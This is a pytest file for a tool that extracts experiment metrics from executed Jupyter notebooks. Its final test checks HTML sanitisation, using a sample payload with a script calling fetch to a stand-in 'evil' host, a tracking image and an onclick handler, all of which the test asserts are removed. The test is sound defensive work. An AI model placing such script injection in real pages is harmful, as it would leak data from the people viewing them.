"""Metrics from what a notebook already reports (issue 17): scrapbook glue, then metrics.json, then numbers in the
last output; none is a success with "no metric found", and every consumer that needs a metric says so."""

from __future__ import annotations

from pathlib import Path

import nbformat
import pytest
from nbformat import v4

from mlr.execution import found_metrics
from mlr.execution.errors import MetricsError
from mlr.execution.metrics import compare, metric_value

pytestmark = pytest.mark.timeout(300)

GLUE = ("from IPython.display import display\n"
        "def glue(name, value):\n"
        "    display({'application/scrapbook.scrap.json+json': {'name': name, 'data': value, 'encoder': 'json',"
        " 'version': 1}}, metadata={'scrapbook': {'name': name}}, raw=True)\n")


def _nb(path: Path, *sources: str) -> Path:
    nb = v4.new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                  "language": "python"}})
    nb.cells = [v4.new_code_cell(s) for s in sources]
    nbformat.write(nb, str(path))
    return path


def test_glued_values_are_the_metrics_and_win_over_metrics_json_and_the_last_output(runner, tmp_path, store):
    nb = _nb(tmp_path / "glued.ipynb", GLUE, "glue('accuracy', 0.25)\nglue('model', 'ridge')\nglue('accuracy', 0.93)",
             "import json; json.dump({'accuracy': 0.5}, open('metrics.json', 'w'))", "print('accuracy: 0.1')")
    out = runner.run(str(nb), {})
    assert out.status == "succeeded", out.error
    assert out.metrics == {"accuracy": 0.93, "model": "ridge"}  # the later glue of a name wins
    assert store.get_run(out.run_id).metrics_found.source == "scrapbook"


def test_metrics_json_comes_next(runner, tmp_path, store):
    nb = _nb(tmp_path / "written.ipynb", "import json; json.dump({'f1': 0.8, 'loss': 1.5}, open('metrics.json', 'w'))",
             "print('f1: 0.1')")
    out = runner.run(str(nb), {})
    assert out.status == "succeeded" and out.metrics == {"f1": 0.8, "loss": 1.5}
    assert store.get_run(out.run_id).metrics_found.source == "metrics.json"


@pytest.mark.parametrize("last,expected", [
    ("print('accuracy: 0.91')\nprint('loss = 0.3')\nprint('epochs done')", {"accuracy": 0.91, "loss": 0.3}),
    ("{'rmse': 2.5, 'r2': 0.75, 'model': 'ridge'}", {"rmse": 2.5, "r2": 0.75}),
    ("import json; print(json.dumps({'auc': 0.7}))", {"auc": 0.7}),
])
def test_numbers_in_the_last_output_come_last(runner, tmp_path, store, last, expected):
    nb = _nb(tmp_path / "printed.ipynb", "x = 1", last, "y = 2  # a last cell with no output is skipped")
    out = runner.run(str(nb), {})
    assert out.status == "succeeded" and out.metrics == expected
    found = store.get_run(out.run_id).metrics_found
    assert found.source == "last output" and found.cell_index == 1


def test_no_metric_is_a_success_with_a_note_and_comparing_says_it_needs_a_metric(runner, tmp_path, store):
    nb = _nb(tmp_path / "quiet.ipynb", "x = 1", "print('done')")
    out = runner.run(str(nb), {})
    assert out.status == "succeeded" and out.error is None and out.metrics == {}
    assert "no metric found" in store.get_run(out.run_id).metrics_found.note
    with pytest.raises(MetricsError, match="the baseline reported no metric, and comparing needs one"):
        compare(out, {"accuracy": 0.5}, "accuracy")
    with pytest.raises(MetricsError, match="reported no metric"):
        metric_value(out.metrics, "accuracy")


def test_a_broken_metrics_json_is_noted_not_a_failure(tmp_path):
    (tmp_path / "metrics.json").write_text("{oops")
    got = found_metrics.collect(tmp_path, None)
    assert got.values == {} and "metrics.json was not used: metrics.json is not valid JSON" in got.note


def test_scraps_are_read_without_the_scrapbook_package(tmp_path):
    nb = v4.new_notebook()
    cell = v4.new_code_cell("sb.glue('acc', 0.9)")
    cell.outputs = [v4.new_output("display_data", data={found_metrics.SCRAP_JSON: {
        "name": "acc", "data": 0.9, "encoder": "json", "version": 1}}, metadata={"scrapbook": {"name": "acc"}})]
    nb.cells = [cell]
    path = tmp_path / "out.ipynb"
    nbformat.write(nb, str(path))
    got = found_metrics.collect(tmp_path, path)
    assert got.values == {"acc": 0.9} and got.source == "scrapbook"


def test_a_succeeded_run_without_metrics_in_the_experiment_scope_and_the_loop_measure(runner, tmp_path, store,
                                                                                    settings):
    from mlr.execution.prototypes import describe
    from mlr.experiments.scope import ExperimentScope

    nb = _nb(tmp_path / "quiet.ipynb", "x = 1  # parameters", "print('done')")
    nb_node = nbformat.read(str(nb), as_version=4)
    nb_node.cells[0].metadata["tags"] = ["parameters"]
    nb_node.metadata["mlr"] = {"primary_metric": "accuracy"}
    nbformat.write(nb_node, str(nb))
    proto = describe(nb, source="added")
    for kind, x in (("baseline", 1), ("variant", 2)):
        assert runner.wait(runner.submit(nb, {"x": x}, kind=kind)).status == "succeeded"
    from mlr.execution.parameters import inspect_parameters

    res = ExperimentScope.of(store, None, proto, inspect_parameters(nb)).results(0.1)
    assert res.comparison is None and res.tone == "warning"
    assert "reported no metric, and comparing needs one ('accuracy')" in res.words


def test_the_report_says_a_baseline_without_a_metric_needs_one(store, tmp_path):
    from mlr.report.results import results

    with store.write() as conn:
        paper = store.add_paper(conn, content_hash="h", file_name="p.pdf", path="/x/p.pdf", title="P", authors=[],
                                year=2024, pages=1, chunks=[], sections=[])
    problem = store.add_problem(paper, {"task": "t", "gaps": [], "keywords": []})
    plan = store.add_plan(store.add_hypothesis(problem, {"method": "m", "rationale": "r"}), {"objective": "o"})
    nb = _nb(tmp_path / "quiet.ipynb", "print('done')")
    for kind in ("baseline", "variant"):
        run_id = store.add_run(str(nb), {}, kind=kind, plan_id=plan)
        store.finish_run(run_id, "succeeded", metrics={})
    res = results(store, plan, 0.1)
    assert res.outcome is None
    assert res.missing.startswith("The baseline run succeeded but reported no metric; this needs a metric")


def test_rich_outputs_of_an_executed_notebook_are_kept_and_html_is_sanitised(tmp_path):
    from mlr.execution.notebook_view import notebook_cells, printed_output, rich_outputs

    cell = v4.new_code_cell("show()")
    cell.outputs = [
        v4.new_output("stream", name="stdout", text="epoch 1\n"),
        v4.new_output("display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": "<Figure>"}),
        v4.new_output("execute_result", execution_count=1, data={
            "text/html": '<style>td{}</style><table class="dataframe"><tr><td onclick="x()">0.9</td></tr></table>'
                         '<script>fetch("http://evil/?k=1")</script><img src="http://evil/p.png"><a href="http://e">l</a>',
            "text/plain": "table"}),
    ]
    nb = v4.new_notebook()
    nb.cells = [cell]
    path = tmp_path / "out.ipynb"
    nbformat.write(nb, str(path))
    cells = notebook_cells(path)
    kinds = [out.kind for _, out in rich_outputs(cells)]
    assert kinds == ["image", "html"] and printed_output(cells) == "epoch 1\n"
    html = rich_outputs(cells)[1][1].text
    assert "<table><tbody><tr><td>0.9</td></tr></tbody></table>" in html
    assert not any(bad in html for bad in ("<script", "fetch", "<img", "href", "onclick", "<style", "evil"))
